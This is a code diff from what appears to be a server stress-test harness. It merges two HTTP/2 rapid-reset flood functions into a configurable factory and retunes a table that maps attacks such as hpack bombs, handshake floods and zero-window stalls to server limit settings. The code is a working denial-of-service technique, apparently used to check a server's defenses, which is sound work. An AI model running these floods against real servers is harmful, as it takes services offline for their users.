@@ -261,47 +261,39 @@ def goes(connection):
         return True
 
 
-def rapid_reset(where, until):
-    did, ends = 0, 0
-    while time.monotonic() < until:
-        connection, stream = h2(where), 1
-        try:
-            while time.monotonic() < until and stream < 1_000_000:
-                batch = b"".join(get(one) + frame(RST_STREAM, 0, one, u32(CANCEL)) for one in range(stream, stream + 200, 2))
-                connection.send(batch)
-                stream += 200
-                did += 100
-                ready, _, _ = select.select([connection.socket], [], [], 0)
-                if ready and goes(connection):
-                    break
-        except (Closed, OSError):
-            pass
-        ends += 1
-        connection.close()
-    return {"did": did, "ended": ends}
+def resets(path, method, streams, pause):
+    """Opens so many streams at once and gives them up after `pause` seconds, over and over, on one connection after the other."""
+    def attack(where, until):
+        did, ends = 0, 0
+        while time.monotonic() < until:
+            connection, first = h2(where), 1
+            try:
+                while time.monotonic() < until and first < 1_000_000:
+                    numbers = range(first, first + 2 * streams, 2)
+                    opened = [headers(one, request(path, method=method), END_HEADERS | (END_STREAM if method == "GET" else 0)) for one in numbers]
+                    given_up = [frame(RST_STREAM, 0, one, u32(CANCEL)) for one in numbers]
+                    if pause:
+                        connection.send(b"".join(opened))
+                        time.sleep(pause)
+                        connection.send(b"".join(given_up))
+                    else:
+                        connection.send(b"".join(part for pair in zip(opened, given_up) for part in pair))
+                    first += 2 * streams
+                    did += streams
+                    ready, _, _ = select.select([connection.socket], [], [], 0)
+                    if ready and goes(connection):
+                        break
+            except (Closed, OSError):
+                pass
+            ends += 1
+            connection.close()
+        return {"did": did, "ended": ends}
+    return attack
 
 
-def slower_reset(where, until):
-    """Resets that come when the requests are under way."""
-    did, ends = 0, 0
-    while time.monotonic() < until:
-        connection, stream = h2(where), 1
-        try:
-            while time.monotonic() < until:
-                streams = range(stream, stream + 40, 2)
-                connection.send(b"".join(headers(one, request("/upload", method="POST"), END_HEADERS) for one in streams))
-                time.sleep(0.005)
-                connection.send(b"".join(frame(RST_STREAM, 0, one, u32(CANCEL)) for one in streams))
-                stream += 40
-                did += 20
-                ready, _, _ = select.select([connection.socket], [], [], 0)
-                if ready and goes(connection):
-                    break
-        except (Closed, OSError):
-            pass
-        ends += 1
-        connection.close()
-    return {"did": did, "ended": ends}
+rapid_reset = resets("/", "GET", 100, 0)
+# Resets that come when the requests are under way.
+slower_reset = resets("/upload", "POST", 20, 0.005)
 
 
 def hpack_bomb(where, until):
@@ -464,7 +456,7 @@ ATTACKS = [
     ("many streams", many_streams, "h2_streams, body_pause", "body_rate", 'body_pause = "2s"'),
     ("no window", zero_window, "reply_pause", "reply_rate", 'reply_pause = "2s"'),
     ("half handshakes", half_handshakes, "handshakes_per_address, handshake_time", None, 'handshake_time = "2s"'),
-    ("handshake flood", handshake_flood, "handshakes_per_address", None, ""),
+    ("handshake flood", handshake_flood, "handshake_rate", "handshake_rate", ""),
     ("key updates", key_updates, "32 without data", None, ""),
     ("renegotiation", renegotiation, "none is taken", None, ""),
 ]
